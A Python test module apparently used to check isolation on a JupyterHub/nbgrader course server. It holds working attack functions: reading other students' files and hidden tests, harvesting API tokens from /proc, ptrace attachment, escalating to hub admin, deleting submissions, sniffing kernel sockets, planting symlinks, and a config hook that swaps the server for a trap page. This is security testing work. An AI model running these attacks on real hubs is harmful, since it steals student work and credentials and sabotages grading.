"""What a student tries against others at the same hub; run by the student's own kernel, and by the test in no other place.

Each attack gives what it got, and nothing where it got nothing. What it is told is more than a student would know.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import os
import pathlib
import signal
import sys
import time
import urllib.request


def attempts(**known):
    """Try all; gives what each got, by its name."""
    got = {}
    for name, attack in ATTACKS.items():
        got[name] = ""
        with contextlib.suppress(OSError):  # refused
            got[name] = str(attack(known) or "")[:500]
    return got


def _readable(paths):
    """The paths that can be read or listed, of those named."""
    found = []
    for path in paths:
        try:
            found.append(os.listdir(path) if os.path.isdir(path) else [pathlib.Path(path).read_bytes()[:1]])
        except OSError:
            continue
        found.append(path)
    return found


def read_home(known):
    """Another student's home and the notebook in it."""
    return _readable([f"/home/{known['other']}", known["notebook"]])


def read_private_folder(known):
    """Another's kernel sockets and temporary files."""
    return _readable([f"/srv/jupyterhub/{name}" for name in (known["other"], known["grader"])])


def read_course(known):
    """The hidden tests and solutions, the gradebook, and what was collected of others."""
    course = known["course"]
    other = f"{known['other']}/{known['assignment']}"
    folders = [f"source/{known['assignment']}", f"submitted/{other}", f"autograded/{other}", f"feedback/{other}"]
    names = [f"{folder}{rest}" for folder in folders for rest in ("", f"/{known['assignment']}.ipynb")]
    return _readable([course, *(f"{course}/{name}" for name in (*names, "gradebook.db"))])


def list_inbound(known):
    """The names of what others have handed in."""
    return os.listdir(f"{known['exchange']}/inbound")


def list_feedback(known):
    """The names of others' feedback pages."""
    return os.listdir(f"{known['exchange']}/feedback")


def search_everything(known):
    """Any file on the machine that holds another's work or a hidden test; both secrets come in halves."""
    secrets = ["".join(halves).encode() for halves in known["secrets"]]
    beside = ("/proc", "/sys", "/usr", "/dev/pts", os.path.expanduser("~"), os.environ["TMPDIR"], *known["programs"])
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in beside]
        for name in files if len(found) < 3 else ():
            path = pathlib.Path(folder, name)
            try:
                if path.is_file() and path.stat().st_size < 20_000_000:
                    content = path.read_bytes()
                    found += [str(path) for secret in secrets if secret in content]
            except OSError:
                continue
    return found


def others_processes(known):
    """What processes of others are called with, and their environments."""
    found, own = [], f"JUPYTERHUB_USER={known['own_user']}\0"
    for name in filter(str.isdigit, os.listdir("/proc")):
        for what in ("cmdline", "environ", "root", "cwd", "fd"):
            path = f"/proc/{name}/{what}"
            try:
                if (
                    os.stat(f"/proc/{name}").st_uid == os.getuid()
                    and own in pathlib.Path(f"/proc/{name}/environ").read_text()
                ):
                    continue
                found += [path, os.listdir(path) if os.path.isdir(path) else pathlib.Path(path).read_text()]
            except OSError:
                continue
    return found


def trace_process(known):
    """Attach to the other's server, as a debugger does; what it holds then lies open."""
    attach, detach = 16, 17
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(attach, known["pid"], None, None) == 0:
        os.waitpid(known["pid"], 0)
        libc.ptrace(detach, known["pid"], None, None)
        return "attached"
    return ""


def signal_process(known):
    """Stop the other's server for a moment."""
    os.kill(known["pid"], signal.SIGCONT)
    return "sent"


def _tokens(known):
    """My own token, none, and those of others whose processes I can read."""
    found = [os.environ["JUPYTERHUB_API_TOKEN"], None]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            pairs = dict(pair.split("=", 1) for pair in pathlib.Path(path).read_text().split("\0") if "=" in pair)
        except OSError:
            continue
        if pairs.get("JUPYTERHUB_USER") in (known["other"], known["grader"]):
            found.append(pairs.get("JUPYTERHUB_API_TOKEN"))
    return list(dict.fromkeys(found))


class _NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_):
        return None


def _answers(tokens, asked):
    """What was answered with success, of some requests, with each token."""
    opener = urllib.request.build_opener(_NoRedirect)
    got = []
    for url, method, body in asked:
        for token in tokens:
            request = urllib.request.Request(url, method=method, data=body)
            if token:
                request.add_header("Authorization", f"token {token}")
            try:
                with opener.open(request, timeout=20) as reply:
                    got.append((method, url, reply.read(100)))
            except OSError:
                continue
    return got


def others_server(known):
    """The other's files over HTTP: by way of the hub, and straight at the server's port."""
    places = [f"{known['url']}/user/{{}}/api/contents", "http://127.0.0.1:{port}/user/{}/api/contents"]
    people = ((known["other"], known["port"]), (known["grader"], known["grader_port"]))
    asked = [(place.format(name, port=port), "GET", None) for name, port in people for place in places]
    return _answers(_tokens(known), asked)


def hub_as_somebody_else(known):
    """The hub's API: others' facts, tokens and servers; the rights of an administrator; the proxy's routes."""
    api = f"{os.environ['JUPYTERHUB_API_URL']}/users"
    asked = [(f"http://127.0.0.1:{known['proxy_port']}/api/routes", "GET", None)]
    asked += [(f"{api}/{known['own_user']}", "PATCH", b'{"admin": true}')]
    for name in (known["other"], known["grader"]):
        asked += [(f"{api}/{name}", "GET", None), (f"{api}/{name}/tokens", "POST", b"{}")]
        asked += [(f"{api}/{name}/server", "DELETE", None)]
    return _answers(_tokens(known), asked)


def read_hub(known):
    """The hub's database and secrets."""
    return _readable(["/var/lib/jupyterhub", *(f"/var/lib/jupyterhub/{name}" for name in known["hub_files"])])


def listen_to_kernels(known):
    """What others' kernels print and run: at every port and every socket file that I can see of theirs."""
    import zmq

    places = []
    with open("/proc/net/tcp") as table:
        for line in list(table)[1:]:
            local, state, uid = line.split()[1], line.split()[3], int(line.split()[7])
            port = int(local.split(":")[1], 16)
            if state == "0A" and (uid in known["uids"] or port in known["kernel_ports"]):
                places.append(f"tcp://127.0.0.1:{port}")
    places += [f"ipc://{path}" for path in glob.glob("/srv/jupyterhub/*/kernel-*-ipc-*")]
    secrets = ["".join(halves).encode() for halves in known["secrets"]]
    context, heard = zmq.Context(), ""
    listening = context.socket(zmq.SUB)
    listening.subscribe(b"")
    for place in places:
        if os.environ["TMPDIR"] not in place:
            listening.connect(place)
    end = time.monotonic() + 4
    while time.monotonic() < end and not heard:
        if listening.poll(200) and any(secret in listening.recv() for secret in secrets):
            heard = "heard"
    context.destroy(linger=0)
    return heard


def change_released(known):
    """Put another assignment into the place of the released one."""
    exchange, assignment = known["exchange"], known["assignment"]
    done = []
    for change in (
        lambda: os.truncate(f"{exchange}/outbound/{assignment}/{assignment}.ipynb", 0),
        lambda: os.mkdir(f"{exchange}/outbound/{assignment}/more"),
        lambda: os.rename(f"{exchange}/outbound", f"{exchange}/away"),
        lambda: os.rename(exchange, f"{exchange}-away"),
        lambda: os.rename(os.path.dirname(exchange), f"{os.path.dirname(exchange)}-away"),
        lambda: os.mkdir(f"{exchange}/outbound/ps2"),
        lambda: os.chmod(f"{exchange}/inbound", 0o777),
    ):
        with contextlib.suppress(OSError):
            change()
            done.append("changed")
    return done


def delete_submission(known):
    """Take away what the other has handed in, even if its secret name were known."""
    os.rename(known["submission"], f"{os.path.dirname(known['submission'])}/taken")
    return "taken"


ATTACKS = {
    each.__name__: each
    for each in (
        read_home,
        read_private_folder,
        read_course,
        list_inbound,
        list_feedback,
        search_everything,
        others_processes,
        trace_process,
        signal_process,
        others_server,
        read_hub,
        listen_to_kernels,
        delete_submission,
        change_released,
        hub_as_somebody_else,  # ends servers
    )
}


def plant(**known):
    """Hand in for the other, hand in links to what I may not read, and a name that cannot be read."""
    inbound, assignment, when = f"{known['exchange']}/inbound", known["assignment"], known["time"]
    notebook = pathlib.Path.home() / assignment / f"{assignment}.ipynb"
    for name, text in ((known["other"], "{}"), (known["own_user"], notebook.read_text())):
        folder = pathlib.Path(inbound, f"{name}+{assignment}+{when}+planted")
        folder.mkdir()
        (folder / f"{assignment}.ipynb").write_text(text)
        (folder / "timestamp.txt").write_text(when)
        (folder / "submission_secret.txt").write_text("planted")
        for number, path in enumerate(known["targets"]):
            (folder / f"leak{number}.txt").symlink_to(path)
        for each in (folder, *folder.iterdir()):
            if not each.is_symlink():
                each.chmod(0o755)
    os.mkdir(f"{inbound}/x+{assignment}+")
    return "planted"


_TRAP = """
import http.server, os, pathlib, urllib.parse
PAGE = pathlib.Path(__file__).with_name("trap.html").read_bytes()
class Trap(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE)
place = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
http.server.ThreadingHTTPServer((place.hostname, place.port), Trap).serve_forever()
"""
_START = """
import os
if "JUPYTERHUB_SERVICE_URL" in os.environ:
    os.execv({python!r}, ["python", {trap!r}])
"""


def set_trap(page):
    """My server is no Jupyter server any more, from its next start on: it shows this page to whoever comes."""
    settings = pathlib.Path.home() / ".jupyter"
    settings.mkdir(exist_ok=True)
    (settings / "trap.html").write_text(page)
    (settings / "trap.py").write_text(_TRAP)
    start = _START.format(python=sys.executable, trap=str(settings / "trap.py"))
    (settings / "jupyter_server_config.py").write_text(start)
    return "set"
